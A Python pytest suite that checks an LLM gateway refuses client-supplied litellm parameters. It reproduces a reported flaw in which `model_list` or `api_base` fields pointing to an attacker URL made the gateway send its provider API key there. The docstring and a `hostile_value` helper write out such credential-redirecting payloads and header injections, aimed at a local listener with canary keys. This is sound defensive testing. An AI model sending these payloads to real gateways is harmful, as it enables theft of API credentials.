"""Finding 1: client fields reached litellm's arguments.

`{"model_list": [{"litellm_params": {"api_base": "http://attacker"}}]}` made litellm send the
gateway's ANTHROPIC_API_KEY to the attacker; `provider_specific_header` injected headers. What
reaches a provider is now built from OpenAI's parameters (the contract in `tests/contracts/`),
a short list of provider extras and the deployment's own settings, and any other field is a 400.

The class, not the example: every parameter name litellm takes (its `all_litellm_params`, the
signatures of `completion`/`acompletion`/`embedding`/`aembedding`/`get_litellm_params`, and the
provider credential names) is sent with attacker URLs as its value to the Anthropic group (through
litellm), to an OpenAI-compatible group (the direct path) and to embeddings. A real listener on
127.0.0.1 records every connection: it must see none, and the fake provider no call.
"""

from __future__ import annotations

import asyncio
import inspect
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from bench.fake_upstream import FakeUpstream
from core.gateway.schemas import ChatCompletionRequest, EmbeddingRequest
from core.llm.litellm_import import litellm_module
from core.llm.litellm_provider import LITELLM_CHAT_PARAMETERS
from core.llm.parameters import (
    CHAT_PARAMETERS,
    EMBEDDING_PARAMETERS,
    OPENAI_CHAT_PARAMETERS,
    PROVIDER_EXTRAS,
)
from tests.support.llm import LLMApp
from tests.support.requests import CHAT, chat

EMBEDDINGS = "/api/v1/embeddings"
CONTRACT = Path(__file__).parent.parent / "contracts" / "openai-openapi-subset.json"
CANARIES = {
    "OPENAI_API_KEY": "sk-canary-openai-0000",
    "ANTHROPIC_API_KEY": "sk-ant-canary-0000",
    "FAKE_ANTHROPIC_KEY": "fake-anthropic-key",
}


class Attacker:
    """A real HTTP listener that records every connection and what was sent on it."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self._server: asyncio.Server | None = None
        self.url = ""

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        port = self._server.sockets[0].getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections.append(b"")
        index = len(self.connections) - 1
        try:
            async with asyncio.timeout(2):
                while b"\r\n\r\n" not in self.connections[index]:
                    data = await reader.read(65536)
                    if not data:
                        break
                    self.connections[index] += data
            body = b'{"error": {"message": "gotcha"}}'
            writer.write(
                b"HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\n"
                b"content-length: %d\r\nconnection: close\r\n\r\n%s" % (len(body), body)
            )
            await writer.drain()
        except (TimeoutError, ConnectionError):
            pass
        finally:
            writer.close()

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()


@pytest.fixture
async def attacker() -> AsyncIterator[Attacker]:
    server = Attacker()
    await server.start()
    try:
        yield server
    finally:
        await server.stop()


@pytest.fixture(autouse=True)
def canary_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    """Provider keys in the environment, as on a real deployment: litellm falls back to them."""
    for name, value in CANARIES.items():
        monkeypatch.setenv(name, value)


def litellm_argument_names() -> set[str]:
    """Every name litellm takes as an argument of its own (not a provider parameter)."""
    litellm = litellm_module()
    from litellm.litellm_core_utils.get_litellm_params import get_litellm_params
    from litellm.types.utils import all_litellm_params

    names = set(all_litellm_params)
    for function in (
        litellm.completion,
        litellm.acompletion,
        litellm.embedding,
        litellm.aembedding,
        get_litellm_params,
    ):
        names |= {
            p.name
            for p in inspect.signature(function).parameters.values()
            if p.kind not in (p.VAR_KEYWORD, p.VAR_POSITIONAL)
        }
    names |= {  # credentials and endpoints litellm reads by name for some provider
        "model_list",
        "provider_specific_header",
        "extra_headers",
        "extra_body",
        "extra_query",
        "default_headers",
        "base_url",
        "api_base",
        "api_key",
        "api_version",
        "api_type",
        "organization",
        "custom_llm_provider",
        "deployment_id",
        "aws_access_key_id",
        "aws_secret_access_key",
        "aws_session_token",
        "aws_region_name",
        "aws_role_name",
        "aws_session_name",
        "aws_profile_name",
        "aws_web_identity_token",
        "aws_sts_endpoint",
        "aws_bedrock_runtime_endpoint",
        "vertex_project",
        "vertex_location",
        "vertex_credentials",
        "vertex_ai_project",
        "vertex_ai_location",
        "vertex_ai_credentials",
        "azure_ad_token",
        "azure_ad_token_provider",
        "azure_api_version",
        "watsonx_region_name",
        "mock_response",
        "mock_tool_calls",
        "mock_timeout",
        "mock_delay",
        "ssl_verify",
        "client",
        "litellm_params",
        "callbacks",
        "success_callback",
        "failure_callback",
        "input_cost_per_token",
        "output_cost_per_token",
        "_litellm_anything",
        "litellm_anything",
    }
    # The fields every request needs are replaced by the gateway, not forwarded as sent.
    return names - {"model", "messages", "input"} - CHAT_PARAMETERS


def hostile_value(name: str, url: str) -> Any:
    """What an attacker would send under `name` to point the call at `url`."""
    if name == "model_list":
        return [
            {
                "model_name": model,
                "litellm_params": {"model": model, "api_base": url, "base_url": url},
            }
            for model in ("anthropic/claude-haiku-4-5", "claude-haiku-4-5", "openai/primary-1")
        ] + [
            {
                "model_name": "openai/solo-1",
                "litellm_params": {"model": "openai/x", "api_key": None},
            }
        ]
    if name == "provider_specific_header":
        return {"custom_llm_provider": "anthropic", "extra_headers": {"x-evil": url}}
    if "header" in name:
        return {"x-evil": url, "host": url}
    if name in ("extra_body", "litellm_params", "metadata"):
        return {"api_base": url, "base_url": url}
    return url


async def assert_refused(
    client: httpx.AsyncClient, path: str, body: dict[str, Any], name: str
) -> str | None:
    """None when the field was refused as OpenAI refuses it, else what went wrong."""
    response = await client.post(path, json=body)
    if response.status_code != 400:
        return f"{path} {body['model']} {name}: {response.status_code} {response.text[:200]}"
    error = response.json()["error"]
    if error["type"] != "invalid_request_error" or error["param"] != name:
        return f"{path} {name}: {error}"
    if error["message"] != f"Unrecognized request argument supplied: {name}":
        return f"{path} {name}: message {error['message']!r}"
    return None


async def test_no_litellm_argument_reaches_a_provider(
    llm_app: LLMApp, upstream: FakeUpstream, attacker: Attacker
) -> None:
    names = sorted(litellm_argument_names())
    assert len(names) > 300  # the enumeration found litellm's names, not an empty list
    problems: list[str] = []
    async with llm_app() as (_, client):
        for name in names:
            value = hostile_value(name, attacker.url)
            requests = [
                (CHAT, chat("hi", "claude", **{name: value})),
                (CHAT, chat("hi", "claude", stream=True, **{name: value})),
                (CHAT, chat("hi", "primary", **{name: value})),
            ]
            if name not in EMBEDDING_PARAMETERS:  # `dimensions`, `encoding_format`: OpenAI's
                requests.append((EMBEDDINGS, {"model": "embed", "input": "x", name: value}))
            for path, body in requests:
                problem = await assert_refused(client, path, body, name)
                if problem:
                    problems.append(problem)
    await asyncio.sleep(0.2)  # anything litellm fired in the background has had its chance
    assert problems == [], "\n".join(problems[:40])
    assert attacker.connections == []
    assert upstream.total_calls == 0


async def test_the_reported_model_list_attack_never_reaches_the_attacker(
    llm_app: LLMApp, upstream: FakeUpstream, attacker: Attacker
) -> None:
    """The reproduction from the review, verbatim, on both groups and streaming."""
    model_list = [
        {
            "model_name": "anthropic/claude-haiku-4-5",
            "litellm_params": {"model": "anthropic/claude-haiku-4-5", "base_url": attacker.url},
        },
        {
            "model_name": "openai/gpt-4o-mini",
            "litellm_params": {"model": "openai/gpt-4o-mini", "api_base": attacker.url},
            "api_key": None,
        },
    ]
    async with llm_app() as (_, client):
        for body in (
            chat("hi", "claude", model_list=model_list),
            chat("hi", "claude", model_list=model_list, stream=True),
            chat("hi", "primary", model_list=model_list),
        ):
            response = await client.post(CHAT, json=body)
            assert response.status_code == 400, response.text
            assert response.json()["error"]["param"] == "model_list"
    assert attacker.connections == []
    assert not any(key.encode() in b"".join(attacker.connections) for key in CANARIES.values())
    assert upstream.total_calls == 0


async def test_several_unknown_fields_are_named(llm_app: LLMApp, upstream: FakeUpstream) -> None:
    async with llm_app() as (_, client):
        response = await client.post(
            CHAT,
            json=chat("hi", "claude", api_base="http://x", api_key="sk", zzz=1, temperature="hot"),
        )
        assert response.status_code == 400  # the unknown names first, before any type check
        error = response.json()["error"]
        assert error["param"] == "api_base"
        assert error["message"] == (
            "Unrecognized request arguments supplied: api_base, api_key, zzz"
        )
    assert upstream.total_calls == 0


# --------------------------------------------------------------------------- nested objects


@pytest.mark.parametrize(
    ("field", "value", "param"),
    [
        ("messages", [{"role": "user", "content": "hi", "api_base": "URL"}], "messages.0.api_base"),
        (
            "messages",
            [{"role": "user", "content": [{"type": "text", "text": "hi", "base_url": "URL"}]}],
            "messages.0.content.0.base_url",
        ),
        (
            "messages",
            [{"role": "user", "content": [{"type": "document", "source": {"url": "URL"}}]}],
            "messages.0.content.0",
        ),
        (
            "messages",
            [
                {
                    "role": "user",
                    "content": [{"type": "image_url", "image_url": {"url": "gs://b/x"}}],
                }
            ],
            "messages.0.content.0.image_url.url",
        ),
        (
            "messages",
            [{"role": "user", "content": [{"type": "file", "file": {"file_id": "URL"}}]}],
            "messages.0.content.0.file.file_id",
        ),
        ("tools", [{"type": "mcp", "server_url": "URL", "server_label": "x"}], "tools.0"),
        ("tools", [{"type": "url", "url": "URL", "name": "x"}], "tools.0"),
        (
            "tools",
            [{"type": "function", "function": {"name": "f"}, "api_base": "URL"}],
            "tools.0.api_base",
        ),
        (
            "tools",
            [{"type": "function", "function": {"name": "f", "headers": {"x": "URL"}}}],
            "tools.0.function.headers",
        ),
        ("response_format", {"type": "json_object", "api_base": "URL"}, "response_format.api_base"),
        ("stream_options", {"include_usage": True, "api_base": "URL"}, "stream_options.api_base"),
        (
            "tool_choice",
            {"type": "function", "function": {"name": "f"}, "x": "URL"},
            "tool_choice.x",
        ),
    ],
    ids=[
        "message-key",
        "content-part-key",
        "content-part-type",
        "image-gs-url",
        "file-id-url",
        "mcp-tool",
        "url-tool",
        "tool-key",
        "function-key",
        "response-format-key",
        "stream-options-key",
        "tool-choice-key",
    ],
)
async def test_nested_provider_settings_are_refused(
    llm_app: LLMApp,
    upstream: FakeUpstream,
    attacker: Attacker,
    field: str,
    value: Any,
    param: str,
) -> None:
    value = json.loads(json.dumps(value).replace("URL", attacker.url))
    async with llm_app() as (_, client):
        for group in ("claude", "primary"):
            body = (
                chat("hi", group, stream=True) if field == "stream_options" else chat("hi", group)
            )
            body[field] = value
            response = await client.post(CHAT, json=body)
            assert response.status_code in (400, 422), response.text
            assert response.json()["error"]["param"].startswith(param), response.text
    assert attacker.connections == []
    assert upstream.total_calls == 0


async def test_an_image_url_is_never_fetched_by_the_gateway(
    llm_app: LLMApp, upstream: FakeUpstream, attacker: Attacker
) -> None:
    """litellm turns an `http://` image URL into base64 for Anthropic by fetching it itself:
    from the gateway's network. Its URL guard must stay on: a 4xx, and no connection."""
    part = {"type": "image_url", "image_url": {"url": f"{attacker.url}/cat.png"}}
    body = {"model": "claude", "messages": [{"role": "user", "content": [part]}]}
    async with llm_app() as (_, client):
        response = await client.post(CHAT, json=body)
        assert 400 <= response.status_code < 500, response.text
    assert attacker.connections == []


# --------------------------------------------------------------------------- what does pass


def every_openai_field(model: str) -> dict[str, Any]:
    """A request carrying each field the gateway accepts, with a legitimate value."""
    return {
        "model": model,
        "messages": [
            {"role": "system", "content": "be brief"},
            {"role": "user", "content": [{"type": "text", "text": "what is the weather"}]},
        ],
        "temperature": 0.5,
        "top_p": 0.9,
        "top_k": 40,
        "n": 1,
        "stop": ["END"],
        "max_tokens": 50,
        "max_completion_tokens": 50,
        "presence_penalty": 0.1,
        "frequency_penalty": 0.1,
        "logit_bias": {"50256": -100},
        "logprobs": True,
        "top_logprobs": 2,
        "seed": 7,
        "user": "user-42",
        "safety_identifier": "hash-42",
        "metadata": {"purpose": "test"},
        "store": False,
        "service_tier": "auto",
        "tools": [
            {
                "type": "function",
                "function": {
                    "name": "get_weather",
                    "description": "Weather for a city",
                    "parameters": {"type": "object", "properties": {"city": {"type": "string"}}},
                    "strict": False,
                },
            }
        ],
        "tool_choice": "auto",
        "parallel_tool_calls": True,
        "response_format": {"type": "text"},
        "reasoning_effort": "low",
        "verbosity": "low",
        "modalities": ["text"],
        "prediction": {"type": "content", "content": "sunny"},
        "prompt_cache_key": "k1",
        "prompt_cache_retention": "24h",
        "web_search_options": {"search_context_size": "low"},
        "functions": [{"name": "legacy", "parameters": {"type": "object"}}],
        "function_call": "auto",
        "audio": {"voice": "alloy", "format": "mp3"},
        "moderation": None,
        "prompt_cache_options": None,
    }


def test_every_field_of_the_sample_is_accepted() -> None:
    """The samples above cover the whole allow-list (so the next test sends all of it)."""
    sample = every_openai_field("primary")
    assert set(sample) | {"stream", "stream_options"} == CHAT_PARAMETERS
    ChatCompletionRequest.model_validate(sample)


async def test_every_allowed_field_reaches_the_direct_provider(
    llm_app: LLMApp, upstream: FakeUpstream, attacker: Attacker
) -> None:
    sample = every_openai_field("primary")
    async with llm_app() as (_, client):
        response = await client.post(CHAT, json=sample)
        assert response.status_code == 200, response.text
        sent = upstream.last_request("primary-1")
        assert sent is not None
        assert sent["body"] == {**sample, "model": "primary-1"}
        assert sent["headers"].get("authorization") is None  # the deployment has no key

        streamed = await client.post(
            CHAT,
            json={**sample, "stream": True, "stream_options": {"include_usage": False}},
            headers={"cache-control": "no-cache"},  # the call itself, not the cached answer
        )
        assert streamed.status_code == 200 and streamed.text.endswith("data: [DONE]\n\n")
        sent = upstream.last_request("primary-1")
        assert sent is not None
        assert sent["body"] == {
            **sample,
            "model": "primary-1",
            "stream": True,
            "stream_options": {"include_usage": True},  # always, for metering
        }

        embedded = await client.post(
            EMBEDDINGS,
            json={
                "model": "embed",
                "input": ["a", "b"],
                "encoding_format": "float",
                "dimensions": 8,
                "user": "u",
            },
        )
        assert embedded.status_code == 200, embedded.text
        sent = upstream.last_request("embed-1")
        assert sent is not None
        assert sent["body"] == {
            "model": "embed-1",
            "input": ["a", "b"],
            "encoding_format": "float",
            "dimensions": 8,
            "user": "u",
        }
    assert attacker.connections == []


ANTHROPIC_BODY_KEYS = frozenset(
    {
        "model",
        "messages",
        "system",
        "max_tokens",
        "temperature",
        "top_p",
        "top_k",
        "stop_sequences",
        "tools",
        "tool_choice",
        "metadata",
        "stream",
        "thinking",
        "output_format",
        "output_config",
        "service_tier",
    }
)


# What Anthropic cannot do as asked: the client's 400, and nothing sent
# (`core.llm.anthropic_request.chat_body`).
ANTHROPIC_REFUSES = frozenset({"audio", "functions", "function_call"})


async def test_allowed_fields_reach_anthropic_and_nothing_else(
    llm_app: LLMApp, upstream: FakeUpstream, attacker: Attacker
) -> None:
    """Each accepted field, one request each, on the native Anthropic path: never a 500,
    never a connection elsewhere, the Anthropic body holds only Anthropic's own keys, and
    what Anthropic cannot do is the client's 400 before anything is sent."""
    sample = every_openai_field("claude")
    async with llm_app() as (_, client):
        base = {"model": "claude", "messages": sample["messages"]}
        for name in sorted(set(sample) - {"model", "messages"}):
            before = upstream.calls("claude-haiku-4-5")
            response = await client.post(
                CHAT, json={**base, name: sample[name]}, headers={"cache-control": "no-cache"}
            )
            if name in ANTHROPIC_REFUSES:
                assert response.status_code == 400, (name, response.text)
                assert response.json()["error"]["type"] == "invalid_request_error"
                assert upstream.calls("claude-haiku-4-5") == before
                continue
            assert response.status_code == 200, (name, response.text)
            assert upstream.calls("claude-haiku-4-5") == before + 1
            sent = upstream.last_request("claude-haiku-4-5")
            assert sent is not None
            assert set(sent["body"]) <= ANTHROPIC_BODY_KEYS, (name, sent["body"])
            assert sent["headers"]["x-api-key"] == "fake-anthropic-key"
            assert not any(k.startswith("x-evil") for k in sent["headers"])

        # A compatible set at once: sampling, stop, tools, the user id, top_k (an extra).
        response = await client.post(
            CHAT,
            json={
                **base,
                **{
                    k: sample[k]
                    for k in (
                        "temperature",
                        "top_k",
                        "stop",
                        "max_tokens",
                        "user",
                        "metadata",
                        "tools",
                        "tool_choice",
                    )
                },
            },
        )
        assert response.status_code == 200, response.text
        sent = upstream.last_request("claude-haiku-4-5")
        assert sent is not None
        body = sent["body"]
        assert body["model"] == "claude-haiku-4-5"
        assert body["temperature"] == 0.5 and body["top_k"] == 40 and body["max_tokens"] == 50
        assert body["stop_sequences"] == ["END"]
        assert [tool["name"] for tool in body["tools"]] == ["get_weather"]
        # OpenAI's `metadata` (tags for stored completions) is not Anthropic's: dropped,
        # and Anthropic's metadata carries only the user id, from `user`.
        assert body.get("metadata") == {"user_id": "user-42"}

        streamed = await client.post(CHAT, json={**base, "stream": True, "top_k": 3})
        assert streamed.status_code == 200 and streamed.text.endswith("data: [DONE]\n\n")
        sent = upstream.last_request("claude-haiku-4-5")
        assert sent is not None and sent["body"]["stream"] is True
        assert sent["body"]["top_k"] == 3
    assert attacker.connections == []


@pytest.mark.parametrize("group", ["claude", "primary"])
async def test_an_answer_sent_back_as_history_is_accepted(
    llm_app: LLMApp, upstream: FakeUpstream, group: str
) -> None:
    """Closed messages must still take what the gateway itself answered: clients append the
    assistant message they got (tool calls and all) to the next request, as OpenAI's SDKs do."""
    tools = every_openai_field(group)["tools"]
    question = {"role": "user", "content": "what is the weather in Paris"}
    async with llm_app() as (_, client):
        first = await client.post(
            CHAT, json={"model": group, "messages": [question], "tools": tools}
        )
        assert first.status_code == 200, first.text
        message = first.json()["choices"][0]["message"]
        assert message["tool_calls"], message
        assert all(set(call) == {"id", "type", "function"} for call in message["tool_calls"])
        result = {
            "role": "tool",
            "tool_call_id": message["tool_calls"][0]["id"],
            "content": '{"sky": "clear"}',
        }
        second = await client.post(
            CHAT,
            json={"model": group, "messages": [question, message, result], "tools": tools},
        )
        assert second.status_code == 200, second.text


# --------------------------------------------------------------------------- the allow-list


def contract_properties(name: str) -> set[str]:
    """The properties of a contract schema, including those inherited through `allOf`."""
    schemas = json.loads(CONTRACT.read_text())["components"]["schemas"]
    schema = schemas[name]
    found = set(schema.get("properties", {}))
    for part in schema.get("allOf", ()):
        if "$ref" in part:
            found |= contract_properties(part["$ref"].rsplit("/", 1)[-1])
        found |= set(part.get("properties", {}))
    return found


def test_the_allow_list_is_openais_chat_parameters() -> None:
    """Drift either way fails: a field OpenAI adds must be decided on, and the gateway must
    not accept a name OpenAI does not define (beyond the documented extras)."""
    assert contract_properties("CreateChatCompletionRequest") == OPENAI_CHAT_PARAMETERS
    assert CHAT_PARAMETERS == OPENAI_CHAT_PARAMETERS | PROVIDER_EXTRAS
    assert set(ChatCompletionRequest.model_fields) == CHAT_PARAMETERS
    assert set(EmbeddingRequest.model_fields) == EMBEDDING_PARAMETERS
    assert PROVIDER_EXTRAS == {"top_k"}
    # litellm's own names stay out, whatever litellm adds next
    assert not (LITELLM_CHAT_PARAMETERS & {"metadata", "stream", "stream_options"})
    assert LITELLM_CHAT_PARAMETERS <= CHAT_PARAMETERS
